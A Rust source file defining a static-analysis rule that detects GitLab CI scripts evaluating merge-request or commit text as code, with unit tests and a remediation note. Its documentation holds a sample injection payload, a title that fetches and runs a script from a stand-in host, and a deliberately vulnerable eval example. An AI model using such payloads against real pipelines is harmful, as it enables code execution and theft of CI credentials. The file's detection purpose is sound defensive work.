use jobzero_core::{Confidence, Family, Severity, declare_rule, expectation};

use crate::audit::{Cx, evidence};
use jobzero_core::check::Sink;
use crate::gitlab;

declare_rule! {
    /// ## What it finds
    /// A GitLab CI script that turns text a merge-request author controls into code: the
    /// merge request's title, description or source branch, or the commit message
    /// (`$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`,
    /// `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `$CI_COMMIT_MESSAGE`, `$CI_COMMIT_TITLE`,
    /// `$CI_COMMIT_DESCRIPTION`, `$CI_COMMIT_BRANCH`, `$CI_COMMIT_REF_NAME`) inside
    /// `eval`, `sh -c`/`bash -c`, `python -c`, `node -e` and similar.
    ///
    /// ## Why it matters
    /// Expanding a variable as an argument is data; passing it to an interpreter as program
    /// text is code. A merge request titled `$(curl evil.sh | sh)` then runs in the
    /// pipeline with its variables and deploy credentials.
    ///
    /// ## Example
    /// ```yaml
    /// lint-title:
    ///   script:
    ///     - eval "check_title $CI_MERGE_REQUEST_TITLE"
    /// ```
    ///
    /// ## Remediation
    /// Pass the value as a quoted argument (`check_title "$CI_MERGE_REQUEST_TITLE"`) or
    /// through a file, never through `eval` or `-c`.
    ///
    /// ## References
    /// - CWE-94
    /// - [GitLab: predefined variables](https://docs.gitlab.com/ci/variables/predefined_variables/)
    pub static RULE = {
        id: "pipeline/gitlab-script-injection",
        code: "CI043",
        title: "merge-request text evaluated as code in a GitLab CI script",
        family: Family::Pipeline,
        severity: Severity::High,
        confidence: Confidence::Medium,
        expectation: &expectation::CODE_ANALYSIS,
    }
}

const UNTRUSTED: &[&str] = &[
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_BRANCH",
    "CI_COMMIT_REF_NAME",
    "CI_COMMIT_REF_SLUG",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
];

const EVALUATORS: &[&str] = &[
    "eval ",
    "sh -c",
    "bash -c",
    "zsh -c",
    "python -c",
    "python3 -c",
    "node -e",
    "perl -e",
    "ruby -e",
    "pwsh -c",
    "Invoke-Expression",
    "iex ",
];

pub(crate) fn evaluated(line: &str) -> Option<&'static str> {
    let evaluates = EVALUATORS.iter().any(|e| {
        line.match_indices(e).any(|(i, _)| {
            // `eval` and `sh -c` as commands, not inside `retrieval` or `ssh -c`.
            i == 0
                || !line[..i].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        })
    });
    if !evaluates {
        return None;
    }
    UNTRUSTED.iter().copied().find(|v| {
        // Slugs are `[a-z0-9-]` only.
        *v != "CI_COMMIT_REF_SLUG"
            && (line.match_indices(&format!("${v}")).any(|(i, m)| {
                !line[i + m.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            }) || line.contains(&format!("${{{v}}}")))
    })
}

pub(crate) fn check(cx: &Cx<'_>, out: &mut Sink) {
    if cx.src.kind != crate::source::Kind::GitlabCi {
        return;
    }
    let Some(root) = cx.src.root() else { return };
    let mut lines = gitlab::script_lines(root, "");
    if let Some(d) = root.get("default") {
        lines.extend(gitlab::script_lines(d, "default"));
    }
    for job in gitlab::jobs(root) {
        lines.extend(gitlab::script_lines(job.node, job.name));
    }
    for (node, route) in lines {
        let Some(script) = node.as_str() else {
            continue;
        };
        for line in script.lines() {
            let Some(var) = evaluated(line) else { continue };
            let line = line.trim();
            out.push(
                cx.at(&RULE, node, &route)
                    .message(format!(
                        "`{line}` evaluates `${var}`, which the merge request's author controls"
                    ))
                    .evidence(evidence(&route, line)),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn only_evaluated_untrusted_text_counts() {
        assert_eq!(
            super::evaluated("eval \"x $CI_MERGE_REQUEST_TITLE\""),
            Some("CI_MERGE_REQUEST_TITLE")
        );
        assert_eq!(
            super::evaluated("bash -c \"echo $CI_COMMIT_REF_SLUG $CI_COMMIT_MESSAGE\""),
            Some("CI_COMMIT_MESSAGE")
        );
        assert_eq!(
            super::evaluated("ssh -c aes128-ctr host \"$CI_COMMIT_MESSAGE\""),
            None
        );
        assert_eq!(super::evaluated("echo \"$CI_MERGE_REQUEST_TITLE\""), None);
        assert_eq!(super::evaluated("eval \"$CI_COMMIT_TITLE_X\""), None);
    }
}
